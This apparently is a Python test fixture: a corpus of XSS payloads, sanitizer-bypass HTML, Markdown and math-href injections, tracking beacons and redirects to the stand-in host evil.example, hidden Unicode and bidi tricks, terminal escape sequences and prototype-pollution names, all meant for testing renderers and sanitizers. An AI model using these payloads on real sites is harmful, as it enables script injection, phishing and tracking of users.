"""What an adversary writes: a corpus for every place where the text of others is shown."""

from __future__ import annotations

EVIL = "http://evil.example"
"""Whatever asks for anything there has been tricked."""

RUN = "window.hacked=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{RUN}'><text x=9 y=9>go</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<iframe src={EVIL}/frame></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}/object></object><embed src={EVIL}/embed>",
    f"<!--><meta http-equiv=refresh content='0;url={EVIL}/comment'>-->",
    f"<!--!><meta http-equiv=refresh content='0;url={EVIL}/bang'>-->",
    f"<!-- --!><meta http-equiv=refresh content='0;url={EVIL}/end'> -->",
    f"<![CDATA[><meta http-equiv=refresh content='0;url={EVIL}/cdata'>]]>",
    f"<?x><meta http-equiv=refresh content='0;url={EVIL}/instruction'>?>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>",
    f"<textarea></textarea/><meta http-equiv=refresh content='0;url={EVIL}/textarea'>",
    f"<title></title/><meta http-equiv=refresh content='0;url={EVIL}/title'>",
    f"<base href={EVIL}/><img src=relative.png>",
    f"<link rel=stylesheet href={EVIL}/link><link rel=prefetch href={EVIL}/prefetch>",
    f"<style>@import url({EVIL}/import); @import '{EVIL}/string';</style>",
    f"<style>p{{background:url({EVIL}/url)}} p{{background:u\\72l('{EVIL}/escape')}}</style>",
    f"<style>p{{background:image-set('{EVIL}/set' 1x)}} @font-face{{font-family:f;src:url({EVIL}/font)}} p{{font-family:f}}</style>",
    f'<style>a{{b:"\\3c/style>\\3cimg src=x onerror={RUN}>"}} p{{background:url({EVIL}/x)}}</style>',
    f"<p style='background:url({EVIL}/attribute)'>p</p><table background={EVIL}/background><tr><td>t",
    f'<p style="background:u&#x72;l(&quot;{EVIL}/reference&quot;)">p</p>',
    f"<img src={EVIL}/img><img srcset='{EVIL}/srcset 1x'><picture><source srcset={EVIL}/source><img></picture>",
    f"<video poster={EVIL}/poster src={EVIL}/video></video><audio src={EVIL}/audio autoplay></audio>",
    f"<input type=image src={EVIL}/input><body background={EVIL}/body>",
    f"<svg><image href={EVIL}/image /><rect fill='url({EVIL}/fill#x)' width=9 height=9 /></svg>",
    f"<form action={EVIL}/form><button>go</button></form><button formaction={EVIL}/b>go</button>",
    f"<a href='javascript:{RUN}'>a</a><a href=' java&#10;script:{RUN}'>b</a><a href='data:text/html,x'>c</a>",
    "<a href='ftp://evil.example'>d</a><a href='mailto:eve@evil.example'>e</a><a href='//evil.example'>f</a>",
    f"<a href={EVIL}/ping ping={EVIL}/pinged>g</a>",
    f"<details open ontoggle={RUN}><summary>s</summary></details>",
    f"</main></body></html><img src=x onerror={RUN}>",
    f"<div style='position:fixed' onpointermove={RUN} onmouseover={RUN}>hover</div>",
    f"<a href={EVIL}/over style='position:fixed;inset:0;z-index:9'>over</a>",
    f"</div></div></div></div></div></div></div><a href={EVIL}/out style='position:fixed;inset:0'>out</a>",
    f"<style>:scope,*{{position:fixed!important;inset:0;contain:none!important}}</style><a href={EVIL}/all>all</a>",
    f"</div></div></div></div></div><style>}}}} *{{position:fixed!important;inset:0}}</style><a href={EVIL}/b>b</a>",
    "<img name=querySelectorAll><form name=createElement></form>",
]

MARKDOWN = [
    f"```\n```\n<img src=x onerror={RUN}>\n```",
    f"```~~~\n<img src=x onerror={RUN}>\n```",
    f"~~~```\n<img src=x onerror={RUN}>\n~~~\n<img src=x onerror={RUN}>",
    f"````\n```\n<img src=x onerror={RUN}>\n```",
    f"``` a`b\n<img src=x onerror={RUN}>\n```",
    f"$$\n```\n$$\n<img src=x onerror={RUN}>\n```\n$$\n```",
    f"$$ open\n\n```\n$$ <img src=x onerror={RUN}>\n```",
    f"\\begin{{x}}\n\n```\n\\end{{x}} <img src=x onerror={RUN}>\n```",
    f"\\\\[ open\n\n```\n\\\\] <img src=x onerror={RUN}>\n```",
    f"`$` $x `y` <img src=x onerror={RUN}> $ `",
    f"- ```\n  <img src=x onerror={RUN}>\n  ```\n- <img src=x onerror={RUN}>",
    f"> ```\n> <img src=x onerror={RUN}>\n\n<img src=x onerror={RUN}>",
    f"1. a\n\n       <img src=x onerror={RUN}>\n\n   <img src=x onerror={RUN}>",
    f"| `a | <img src=x onerror={RUN}> ` |\n|---|---|\n| `b | <img src=x onerror={RUN}> ` |",
    f"``<img src=x onerror={RUN}>`` and `<img src=x onerror={RUN}>`",
    f"http://example.org\\<img src=x onerror={RUN}>",
    f"<http://example.org/><img src=x onerror={RUN}>",
    f"[^1]\n\n[^1]: note\n    <img src=x onerror={RUN}>",
    f"term\n: <img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;img src=x onerror={RUN}&#62;",
    f"![pixel]({EVIL}/pixel.png) ![pixel][1]\n\n[1]: {EVIL}/reference.png",
    f"[my bank]({EVIL}/bank) [click][2] [2]\n\n[2]: javascript:{RUN}",
    f"[a](javascript:{RUN}) [b](<javascript:{RUN}>) [c](data:text/html,x) <javascript:{RUN}>",
    "mailto:eve@evil.example eve@evil.example <eve@evil.example> [m](mailto:eve@evil.example)",
    "ftp://evil.example/a <ftp://evil.example/b> [f](ftp://evil.example/c) xmpp:eve@evil.example",
    '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
    "- ```mermaid\n  graph TD; A-->B\n  ```\n\n~~~ mermaid\ngraph TD; A-->B\n~~~",
    f"$\\href{{{EVIL}/math}}{{my\\ bank}}$ \\(\\href{{{EVIL}/math}}{{x}}\\) $$\\href{{{EVIL}/m}}{{x}}$$",
    f"`a`$\\href{{{EVIL}/math}}{{x}}$`b` &#36;\\href{{{EVIL}/m}}{{x}}&#36; &dollar;x&dollar;",
    "\\begin{align}\\href{javascript:alert(1)}{x}\\end{align} \\ref{x}",
    "@@0@@ $x$ @@1@@",
]

UNSEEN = [
    "rm \u202efdp.exe",
    "safe\u200b\u2060\ufeff\u00ad name",
    "\u2066a\u2069 \u200e\u200f\u061c",
    "hi\U000e0068\U000e0069\U000e007f \ufe01\U000e0101",
    "\u3164\uffa0\u115f\u2800",
    "\x1b]52;c;cm0=\x07\x1b]0;title\x07\x1b[2J\x9b2J\x08\x00",
    "&#8238;&#x200b;&zwj;&shy;",
]

NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty"]

CORPUS = [*HTML, *MARKDOWN, *UNSEEN, *NAMES]
